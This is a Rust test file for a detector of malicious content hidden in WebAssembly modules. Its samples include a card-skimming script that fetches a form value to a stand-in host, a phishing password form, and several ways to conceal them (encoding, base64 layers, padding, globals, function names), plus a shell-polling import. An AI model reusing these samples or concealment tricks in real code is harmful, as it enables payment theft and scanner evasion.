//! Pages, scripts and programs that are handed over in ways in which no text is seen. They come number by
//! number, packed into numbers, as wide characters at some place of memory, or behind much else.

use super::{Class, analysed, at_least, class};

const SCRIPT: &str =
    "let f = document.forms[0]; f.onsubmit = () => { fetch('https://c.example.invalid/' + f.card.value); };";
const FORM: &str =
    "<form action='https://c.example.invalid/in'>Password <input type='password' name='p'></form>";
const PROSE: &str = "The beds are planted, and the water tank was delivered on Monday, says the report.";

/// Bytes as a string of WAT, each changed by its place as `decoded` undoes it.
fn hidden(bytes: &[u8]) -> String {
    let code = |(place, byte): (usize, &u8)| byte.wrapping_mul(5).wrapping_add((place as u8).wrapping_mul(3));
    bytes.iter().enumerate().map(|each| format!("\\{:02x}", code(each))).collect()
}

/// A module with a function `$letter` that decodes one byte of hidden data at 1024.
fn carrier(bytes: &[u8], rest: &str) -> String {
    format!(
        r#"(module (import "page" "take" (func $take (param i32))) (import "page" "show" (func $show (param i32 i32)))
          (memory (export "memory") 16) (data (i32.const 1024) "{}")
          (func $letter (param $at i32) (result i32)
            (i32.and (i32.const 255) (i32.mul (i32.const 205)
              (i32.sub (i32.load8_u offset=1024 (local.get $at)) (i32.mul (local.get $at) (i32.const 3))))))
          {rest})"#,
        hidden(bytes)
    )
    .replace("$LEN", &format!("(i32.const {})", bytes.len()))
}

/// A loop over all letters.
fn each(body: &str) -> String {
    format!(
        "(local $i i32) (loop $next {body} (local.set $i (i32.add (local.get $i) (i32.const 1)))
           (br_if $next (i32.lt_u (local.get $i) $LEN)))"
    )
}

/// Ways to hand over a text.
fn ways(text: &str) -> Vec<(&'static str, String)> {
    let by_place = r#"(func (export "sample") (param i32) (result i32)
        (if (i32.ge_u (local.get 0) $LEN) (then (return (i32.const 0)))) (call $letter (local.get 0)))"#;
    let of_object = r#"(func (export "value") (param i32 f64) (result f64)
        (if (f64.ge (local.get 1) (f64.convert_i32_u $LEN)) (then (return (f64.const -1))))
        (f64.convert_i32_u (call $letter (i32.trunc_f64_u (local.get 1)))))"#;
    let one_by_one = r#"(global $n (mut i32) (i32.const 0))
        (func (export "next") (result i32) (local $at i32)
          (local.set $at (global.get $n)) (global.set $n (i32.add (local.get $at) (i32.const 1)))
          (if (result i32) (i32.lt_u (local.get $at) $LEN) (then (call $letter (local.get $at))) (else (i32.const -1))))"#;
    let three = r#"(func (export "chunk") (param i32) (result i32) (local $at i32)
        (local.set $at (i32.mul (local.get 0) (i32.const 3)))
        (if (i32.ge_u (local.get $at) $LEN) (then (return (i32.const 0))))
        (i32.or (i32.shl (call $letter (local.get $at)) (i32.const 16))
          (i32.or (i32.shl (call $letter (i32.add (local.get $at) (i32.const 1))) (i32.const 8))
            (call $letter (i32.add (local.get $at) (i32.const 2))))))"#;
    let handed = format!("(func (export \"draw\") {})", each("(call $take (call $letter (local.get $i)))"));
    let store = |width: u32, store: &str| {
        let at = format!("(i32.add (i32.const 200000) (i32.mul (local.get $i) (i32.const {width})))");
        let body =
            each(&format!("({})", store.replace("$AT", &at).replace("$V", "(call $letter (local.get $i))")));
        format!("(func (export \"prepare\") {body})")
    };
    let words = "$AT (f64.convert_i32_u $V)";
    let larger = "$AT (f64.convert_i32_u (i32.add $V (i32.const 1000)))";
    let ways = [
        ("by its place", by_place.to_owned()),
        ("by the place of an object", of_object.to_owned()),
        ("one by one", one_by_one.to_owned()),
        ("three at a time", three.to_owned()),
        ("handed to the host", handed),
        ("UTF-16 in memory", store(2, "i32.store16 $AT $V")),
        ("floats in memory", store(8, &format!("f64.store {words}"))),
        ("larger floats in memory", store(8, &format!("f64.store {larger}"))),
        ("words in memory", store(4, "i32.store $AT $V")),
        ("smaller words in memory", store(4, "i32.store $AT (i32.sub $V (i32.const 700))")),
        ("letters in memory", store(1, "i32.store8 $AT $V")),
    ];
    ways.map(|(name, rest)| (name, carrier(text.as_bytes(), &rest))).to_vec()
}

/// Ways to give it number by number that differ in where they begin and what else they take and give.
fn odd_ways(text: &str) -> Vec<(&'static str, String)> {
    // The letter at a place, and nothing outside.
    let at = |place: &str| {
        format!(
            "(if (result i32) (i32.lt_u {place} $LEN) (then (call $letter {place})) (else (i32.const 0)))"
        )
    };
    let (first, less) = (at("(local.get 0)"), |by: u32| format!("(i32.sub (local.get 0) (i32.const {by}))"));
    let counted = "(global $n (mut i32) (i32.const -1))";
    let exported = "(global $n (export \"n\") (mut i32) (i32.const 0))";
    let log = "(func (export \"at\") (param i32) (result i32) (call $take (i32.const 3))";
    let ways = [
        ("from one", format!("(func (export \"at\") (param i32) (result i32) {})", at(&less(1)))),
        ("after a few blanks", {
            let blank = "(if (i32.lt_u (local.get 0) (i32.const 12)) (then (return (i32.const 32))))";
            format!("(func (export \"at\") (param i32) (result i32) {blank} {})", at(&less(12)))
        }),
        ("from an address", {
            let place = less(1024);
            format!("(func (export \"at\") (param i32) (result i32) (call $letter {place}))")
        }),
        ("of three numbers", format!("(func (export \"at\") (param i32 i32 i32) (result i32) {first})")),
        ("two results", {
            format!("(func (export \"at\") (param i32) (result i32 i32) {first} (i32.const 1))")
        }),
        ("below zero", {
            format!("(func (export \"at\") (param i32) (result i32) (i32.sub (i32.const 0) {first}))")
        }),
        ("each four times", {
            let place = "(i32.shr_u (local.get 0) (i32.const 2))";
            format!("(func (export \"at\") (param i32) (result i32) {})", at(place))
        }),
        ("with a word to the host", format!("{log} {first})")),
        ("one by one after nothing", {
            let next = "(global.set $n (i32.add (local.tee 0 (global.get $n)) (i32.const 1)))";
            format!("{counted} (func (export \"next\") (result i32) (local i32) {next} {first})")
        }),
        ("by steps", {
            let step = "(global.set $n (i32.add (global.get $n) (i32.const 1)))";
            let current = at("(global.get $n)");
            format!(
                "{exported} (func (export \"step\") {step}) (func (export \"current\") (result i32) {current})"
            )
        }),
        ("in a global", format!("{exported} (func (export \"pick\") (param i32) (global.set $n {first}))")),
    ];
    ways.map(|(name, rest)| (name, carrier(text.as_bytes(), &rest))).to_vec()
}

#[test]
fn a_page_or_script_is_found_however_it_is_handed_over() {
    at_least(Class::PotentiallyUnwanted, &ways(FORM));
    at_least(Class::Undecided, &ways(SCRIPT));
}

#[test]
fn a_page_is_found_wherever_its_numbers_begin() {
    at_least(Class::PotentiallyUnwanted, &odd_ways(FORM));
}

/// What stands in globals and in names nobody has to call.
#[test]
fn globals_and_names_are_read() {
    let global = |(at, bytes): (usize, &[u8])| {
        let word = bytes.iter().rev().fold(0u64, |all, byte| all << 8 | u64::from(*byte));
        format!("(global (export \"g{at}\") i64 (i64.const {word}))")
    };
    let globals = |text: &str| -> String {
        let all: String = text.as_bytes().chunks(8).enumerate().map(global).collect();
        format!(
            "(module {all} (func (export \"add\") (param i32 i32) (result i32) (i32.add (local.get 0) (local.get 1))))"
        )
    };
    let named = |text: &str| -> String {
        let letters = base64(text.as_bytes());
        let pieces =
            letters.as_bytes().chunks(24).map(|piece| String::from_utf8_lossy(piece).replace('=', ""));
        let all: String = pieces.map(|piece| format!("(func $\"{piece}\" (param i32))")).collect();
        format!("(module {all} (func (export \"one\") (result i32) (i32.const 1)))")
    };
    at_least(Class::PotentiallyUnwanted, &[("globals", globals(FORM))]);
    at_least(
        Class::Undecided,
        &[("globals", globals(SCRIPT)), ("names", named(SCRIPT)), ("names", named(FORM))],
    );
    for text in [globals(PROSE), named(PROSE)] {
        assert_eq!(class(&text), Class::Clean, "{text}");
    }
}

/// Who asks for the letters of a text gets them.
#[test]
fn a_text_that_is_handed_over_so_is_a_text() {
    for (name, text) in ways(PROSE).into_iter().chain(odd_ways(PROSE)) {
        let verdict = analysed(&text).verdict;
        assert_eq!(verdict.class, Class::Clean, "{name}: {:?}", verdict.reasons);
    }
}

#[test]
fn a_program_in_words_is_a_program() {
    let mut program = b"MZ\x90\0".to_vec();
    program.resize(64, 0);
    program[60] = 64;
    program
        .extend_from_slice(b"PE\0\0\x64\x86\x02\0and what it does then, which is nothing of use to anybody.");
    let words = r#"(func (export "word") (param $n i32) (result i32) (local $at i32)
        (local.set $at (i32.mul (local.get $n) (i32.const 4)))
        (if (i32.ge_u (local.get $at) $LEN) (then (return (i32.const 0))))
        (i32.or (i32.or (call $letter (local.get $at))
            (i32.shl (call $letter (i32.add (local.get $at) (i32.const 1))) (i32.const 8)))
          (i32.or (i32.shl (call $letter (i32.add (local.get $at) (i32.const 2))) (i32.const 16))
            (i32.shl (call $letter (i32.add (local.get $at) (i32.const 3))) (i32.const 24)))))"#;
    let found = analysed(&carrier(&program, words)).verdict;
    assert!(found.class >= Class::PotentiallyUnwanted, "{:?}", found.reasons);
}

/// A page is one behind so much text that nobody keeps all of it, and behind many layers.
#[test]
fn much_before_a_page_hides_nothing() {
    let far = r#"(func (export "render") (local $i i32) (local $to i32)
        (local.set $to (i32.const 100000))
        (loop $fill (i64.store (local.get $to) (i64.const 0x20656c707061202c))
          (local.set $to (i32.add (local.get $to) (i32.const 8)))
          (br_if $fill (i32.lt_u (local.get $to) (i32.const 800000))))
        (loop $next (i32.store8 (i32.add (local.get $to) (local.get $i)) (call $letter (local.get $i)))
          (local.set $i (i32.add (local.get $i) (i32.const 1)))
          (br_if $next (i32.lt_u (local.get $i) $LEN)))
        (call $show (i32.const 100000) (i32.sub (i32.add (local.get $to) $LEN) (i32.const 100000))))"#;
    let found = analysed(&carrier(FORM.as_bytes(), far)).verdict;
    assert!(found.class >= Class::PotentiallyUnwanted, "{:?}", found.reasons);
    let prose = carrier(PROSE.as_bytes(), far);
    assert_eq!(class(&prose), Class::Clean);
}

#[test]
fn many_layers_hide_nothing() {
    let mut text = FORM.to_owned();
    for _ in 0..12 {
        text = base64(text.as_bytes());
    }
    let handed = format!(
        "(func (export \"draw\") {} (call $show (i32.const 65536) $LEN))",
        each("(i32.store8 (i32.add (i32.const 65536) (local.get $i)) (call $letter (local.get $i)))")
    );
    let found = analysed(&carrier(text.as_bytes(), &handed)).verdict;
    assert!(found.class >= Class::PotentiallyUnwanted, "{:?}", found.reasons);
}

pub(super) fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let group = |bytes: &[u8]| {
        let word =
            bytes.iter().fold(0u32, |all, byte| all << 8 | u32::from(*byte)) << (8 * (3 - bytes.len()));
        let letter = |place: usize| {
            let is_there = place <= bytes.len();
            if is_there { char::from(LETTERS[(word >> (18 - 6 * place) & 63) as usize]) } else { '=' }
        };
        (0..4).map(letter).collect::<String>()
    };
    bytes.chunks(3).map(group).collect()
}

/// A function of the host named like one that runs commands waits for orders that nobody gave.
#[test]
fn orders_for_a_function_of_the_host_are_orders() {
    let pulls = |name: &str| {
        format!(
            r#"(module (import "desk" "fetch_line" (func $line (param i32 i32) (result i32)))
              (import "desk" "{name}" (func $does (param i32 i32)))
              (memory (export "memory") 1)
              (func (export "poll") (local $n i32)
                (local.set $n (call $line (i32.const 1024) (i32.const 256)))
                (if (i32.gt_s (local.get $n) (i32.const 2)) (then (call $does (i32.const 1024) (local.get $n))))))"#
        )
    };
    at_least(Class::Undecided, &[("shell", pulls("open_shell")), ("eval", pulls("host_eval"))]);
    assert_eq!(class(&pulls("draw_line")), Class::Clean);
}
